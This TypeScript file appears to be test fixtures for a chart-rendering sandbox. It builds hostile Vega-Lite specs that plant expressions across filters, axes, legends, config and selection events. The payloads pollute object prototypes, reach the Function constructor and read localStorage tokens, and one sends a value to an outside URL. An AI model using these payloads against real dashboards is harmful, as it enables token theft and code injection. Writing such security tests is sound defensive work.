import { n, o, q, type Spec } from '../samples.ts';
import { areas, bars, encoding, type HostileSpecs, marked, store } from './bars.ts';

/** Makes rows of objects of the page, which marks them; no event is needed. It comes to 1. */
const REACH = "modify('p_store', [screen(), __proto__])";

/** The same without brackets, which an event in words ends at. */
const REACH_IN_WORDS = "modify('p_store', screen())";

/** Reads what the page keeps, where a mark is encoded. */
const READ_BY_ITEM = 'item.mark.group.context.dataflow._el.ownerDocument.defaultView.localStorage.token';

/** The same from a move on, by the signal in which Vega-Lite keeps the plot that the pointer is in. */
const READ_BY_UNIT = 'unit.context ? unit.context.dataflow._el.ownerDocument.defaultView.localStorage.token : 0';

const expr = { expr: REACH };
const axis = (more: Spec): Spec => ({ encoding: { x: n('area', { axis: more }), y: q('count') } });
const legend = (more: Spec): Spec => ({ encoding: { ...encoding, color: n('area', { legend: more }) } });
const scale = (more: Spec): Spec => ({ encoding: { ...encoding, y: q('count', { scale: more }) } });
const point = (select: Spec): Spec => ({ params: [{ name: 'p', select: { type: 'point', ...select } }] });
const interval = (select: Spec): Spec => ({ params: [{ name: 'p', select: { type: 'interval', ...select } }] });

/** Each place where an expression may stand. */
const places: Readonly<Record<string, Spec>> = {
  'a filter': { transform: [{ filter: `${REACH} || true` }] },
  'a calculation': { transform: [{ calculate: REACH, as: 'token' }] },
  'an equal': { transform: [{ filter: { field: 'area', equal: expr } }] },
  'a range': { transform: [{ filter: { field: 'count', range: { signal: `[0, ${REACH} ? 9 : 9]` } } }] },
  'a year': { transform: [{ filter: { field: 'count', gt: { year: `${REACH} ? 1 : 1` } } }] },
  'a sequence': { data: { sequence: { start: 0, stop: { signal: `${REACH} ? 3 : 3` }, as: 'count' } } },
  'a step of bins': { transform: [{ bin: { step: { signal: `${REACH} ? 1 : 1` } }, field: 'count', as: 'bin' }] },
  'a param': { params: [{ name: 'read', expr: REACH }] },
  'a param, asked by another': {
    params: [
      { name: 'a', expr: REACH },
      { name: 'b', expr: 'a + 1' },
    ],
  },
  'a width': { width: { step: expr } },
  'a padding': { padding: expr },
  'a title': { title: { text: expr, subtitle: expr } },
  'the frame of a plot': { view: { fill: expr } },
  'labels of an axis': axis({ labelExpr: REACH }),
  'ticks of an axis': axis({ tickCount: expr, values: expr }),
  'a title of an axis': axis({ title: expr }),
  'a colour of an axis, by a condition': axis({
    labelColor: { condition: { test: REACH, value: 'red' }, value: 'red' },
  }),
  'labels of a legend': legend({ labelExpr: REACH }),
  'a title of a legend': legend({ title: expr, columns: expr }),
  'a domain': scale({ domain: { expr: `[0, ${REACH} ? 9 : 9]` } }),
  'a domain without a form': scale({ domainRaw: expr }),
  'an end of a domain': scale({ domainMax: expr, padding: expr }),
  'a range of a scale': scale({ range: { expr: `[0, ${REACH} ? 9 : 9]` } }),
  'a datum': { encoding: { x: n('area'), y: { datum: expr, type: 'quantitative' } } },
  'a condition': { encoding: { ...encoding, opacity: { condition: { test: REACH, value: 1 }, value: 0.5 } } },
  'a value': { encoding: { ...encoding, opacity: { value: expr } } },
  'a text': { mark: 'text', encoding: { ...encoding, text: { value: expr } } },
  'a tooltip': { encoding: { ...encoding, tooltip: { value: expr } } },
  'a tooltip, as a signal': { mark: { type: 'bar', tooltip: { signal: REACH } } },
  'a header': {
    facet: n('area', { header: { labelExpr: REACH, title: expr } }),
    spec: { mark: 'bar', encoding },
  },
  'a projection': {
    data: { values: [{ type: 'Feature', geometry: { type: 'Point', coordinates: [0, 52] } }] },
    mark: 'geoshape',
    projection: { type: 'mercator', scale: expr },
    encoding: {},
  },
  'config of marks': { config: { bar: { fill: expr }, mark: { opacity: expr } } },
  'config of axes': { config: { axis: { labelColor: expr, labelLimit: expr } } },
  'config of a style': { config: { style: { bar: { fill: { signal: REACH } } } } },
  'config of titles': { title: 'A title', config: { title: { color: expr } } },
  'signals of config': { config: { signals: [{ name: 'read', update: REACH }] } },
  'params of config': { config: { params: [{ name: 'read', expr: REACH }] } },
  'an address of data': { data: { url: { signal: `'https://elsewhere.example/?' + ${REACH}` } } },
  'what adds to a selection': point({ toggle: REACH }),
  'what clears a selection': point({ clear: `pointermove[${REACH_IN_WORDS}]` }),
  'what begins a selection, in words': point({ on: `pointermove[${REACH_IN_WORDS}]` }),
  'what a legend is bound by': {
    params: [
      { name: 'p', select: { type: 'point', fields: ['area'] }, bind: { legend: `pointermove[${REACH_IN_WORDS}]` } },
    ],
    encoding: { ...encoding, color: n('area') },
  },
  'what moves a brush': interval({
    translate: `[pointerdown[${REACH_IN_WORDS}], window:pointerup] > window:pointermove!`,
  }),
  'what zooms a brush': interval({ zoom: `wheel![${REACH_IN_WORDS}]` }),
  'what begins a brush': interval({ on: `[pointerdown[${REACH_IN_WORDS}], pointerup] > pointermove` }),
  'what a brush looks like': interval({ mark: { fill: expr, cursor: expr } }),
  'what a selection begins with': { params: [{ name: 'p', select: 'point', value: { signal: REACH } }] },
  'a place in an order': { encoding: { x: o('area', { sort: { field: REACH } }), y: q('count') } },
  'a lookup': {
    transform: [{ lookup: 'area', from: { data: areas, key: 'area', fields: ['count'] }, as: ['c'], default: REACH }],
  },
};

/** Params with a selection among them that can be filled. */
const stored = (params: unknown = []): readonly unknown[] => {
  const given = params as readonly Spec[];
  return given.some(({ name }) => name === 'p') ? given : [store, ...given];
};

/** Properties of a mark. */
const properties = `fill stroke color opacity size shape angle font fontWeight text url href cursor tooltip description
  strokeDash strokeWidth cornerRadius x y width height blend clip aria ariaRole interpolate`.split(/\s+/);

/** Specs that reach for what the page keeps, in each place where an expression may stand. */
export const expressions: HostileSpecs = {
  ...Object.fromEntries(
    Object.entries(places).map(([name, more]) => [`in ${name}`, bars({ ...more, params: stored(more['params']) })]),
  ),
  ...Object.fromEntries(
    properties.map((name) => [`in ${name} of a mark, by its item`, marked({ [name]: { expr: READ_BY_ITEM } })]),
  ),
  'in a mark, by the plot that the pointer is in': bars({
    params: [store],
    mark: { type: 'bar', opacity: { expr: READ_BY_UNIT } },
  }),
  'in a facet, by its parent': bars({
    facet: n('area'),
    spec: { mark: { type: 'bar', opacity: { expr: 'parent.constructor.constructor' } }, encoding },
  }),
  'in signals of config, at a move': bars({
    config: { signals: [{ name: 'read', on: [{ events: 'pointermove', update: 'event.view.localStorage.token' }] }] },
    mark: { type: 'bar', fill: { expr: "read ? 'red' : 'blue'" } },
  }),
  'by the name of what all objects share': bars({
    transform: [{ calculate: 'constructor.prototype', as: '__proto__' }],
  }),
  'by the name of what all objects share, as rows': bars({
    params: [store],
    transform: [{ calculate: "modify('p_store', constructor.prototype)", as: 'a' }],
  }),
  'by the old name of what all objects share, as rows': bars({
    params: [store],
    transform: [{ calculate: "modify('p_store', __proto__)", as: 'a' }],
  }),
};
